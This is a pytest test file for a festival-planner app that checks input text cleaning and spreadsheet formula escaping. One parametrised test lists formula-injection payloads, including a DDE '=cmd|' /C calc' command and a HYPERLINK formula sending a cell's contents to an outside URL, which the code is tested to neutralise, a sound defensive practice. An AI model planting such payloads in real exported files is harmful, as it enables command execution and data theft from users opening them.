"""The one check on text as it enters (``domain/entry.py``) and the spreadsheet cell rules
(``services/cells.py``): control characters refused naming the field, limits, formula-safe cells."""

from __future__ import annotations

import unicodedata

import pytest

from festival_planner.domain.entry import clean_text, first_bad_character, without_bad_characters
from festival_planner.domain.errors import ValidationError
from festival_planner.services.cells import read_text, read_value, safe_text, safe_value

CONTROLS = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) == "Cc"]


@pytest.mark.parametrize("multiline", [False, True])
def test_every_control_character_is_refused_except_tab_and_line_breaks(multiline: bool) -> None:
    for char in CONTROLS:
        if char in "\t\n\r":
            assert "\x00" not in clean_text(f"a{char}b", "notes", 50, multiline=multiline)
            continue
        with pytest.raises(ValidationError) as caught:
            clean_text(f"a{char}b", "notes", 50, multiline=multiline, field_key="leader_field.notes")
        assert caught.value.code == "text_control_character"
        assert caught.value.params["position"] == 2 and caught.value.params["field"] == "notes"
    assert len(CONTROLS) == 65


def test_surrogates_and_non_characters_are_refused_vietnamese_is_not() -> None:
    for bad in ("\ud800", "\udcff", "\ufffe", "\uffff"):
        assert first_bad_character(f"x{bad}") == 1
    assert first_bad_character("Nguyễn Văn Ất — Đắk Lắk, “Huế”\u0301") is None


def test_line_breaks_tabs_limits_and_required() -> None:
    assert clean_text("  a\r\n\tb \r c  ", "x", 20, multiline=True) == "a\n\tb \n c"
    assert clean_text("  a\r\n\tb  c ", "x", 20) == "a  \tb  c".replace("\t", " ")
    assert clean_text("  a\r\n\tb  c ", "x", 20, collapse=True) == "a b c"
    with pytest.raises(ValidationError) as caught:
        clean_text("x" * 11, "x", 10, too_long="leader_text_too_long", field_key="leader_field.title")
    assert (caught.value.code, caught.value.params["limit"]) == ("leader_text_too_long", 10)
    with pytest.raises(ValidationError) as caught:
        clean_text("  ", "x", 10, required=True)
    assert caught.value.code == "text_required"
    assert clean_text(None, "x", 10) == ""


def test_stored_bad_characters_are_shown_as_replacement() -> None:
    assert without_bad_characters("a\x00b\tc\x85") == "a\ufffdb\tc\ufffd"


@pytest.mark.parametrize("text", ["=1+1", "+84 912", "-3", "@SUM(A1)", "\t=1", "\r=1",
                                  '=HYPERLINK("http://x?d="&C2,"y")', "=cmd|' /C calc'!A0"])
def test_formula_like_text_is_quoted_and_unquoted(text: str) -> None:
    assert safe_text(text) == "'" + text
    assert read_text(safe_text(text)) == text


def test_plain_text_and_numbers_are_untouched() -> None:
    assert safe_text("Nguyễn Văn An") == "Nguyễn Văn An"
    assert safe_value(-1500000) == -1500000 and safe_value(-2.5) == -2.5
    assert read_text("'quoted") == "'quoted"  # only our own quote (before a formula start) is removed
    assert read_value(-3) == -3
